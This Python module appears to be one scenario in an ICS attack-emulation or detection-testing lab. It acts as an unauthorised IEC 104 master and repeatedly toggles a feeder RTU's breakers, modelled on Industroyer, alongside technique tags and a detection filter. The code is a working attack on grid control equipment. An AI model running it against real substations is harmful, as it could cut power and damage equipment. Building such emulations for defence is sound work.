"""A second IEC 104 master switches the feeder's breakers."""

from __future__ import annotations

import c104

from ..clients.scada_iec104 import connect
from ..devices.iec104_rtu import DOUBLE_COMMAND, SINGLE_COMMAND
from ..node import Node

TITLE = "IEC 104 single and double commands to the feeder RTU by a new master"
TECHNIQUES = ("T1692.001", "T0848")
ORIGIN = "laptop"
ENTITIES = ("laptop", "rtu-feeder")
EVIDENCE = "iec60870_asdu.typeid in {45, 46} && ip.src == 10.20.1.99"


def run(node: Node) -> None:
    """Open and close both breakers, as Industroyer did."""
    client, connection, station = connect(node.peer("rtu-feeder"))
    single = station.add_point(io_address=SINGLE_COMMAND, type=c104.Type.C_SC_NA_1)
    double = station.add_point(io_address=DOUBLE_COMMAND, type=c104.Type.C_DC_NA_1)
    client.start()
    for _ in range(30):
        if connection.is_connected:
            break
        node.pause(0.1)
    connection.unmute()  # STARTDT: without it the station ignores commands
    node.pause(0.3)
    for turn in range(3):
        single.value = turn % 2 == 0
        single.transmit(cause=c104.Cot.ACTIVATION)
        node.pause(0.4)
        double.value = c104.Double.OFF if turn % 2 else c104.Double.ON
        double.transmit(cause=c104.Cot.ACTIVATION)
        node.pause(0.4)
    client.stop()
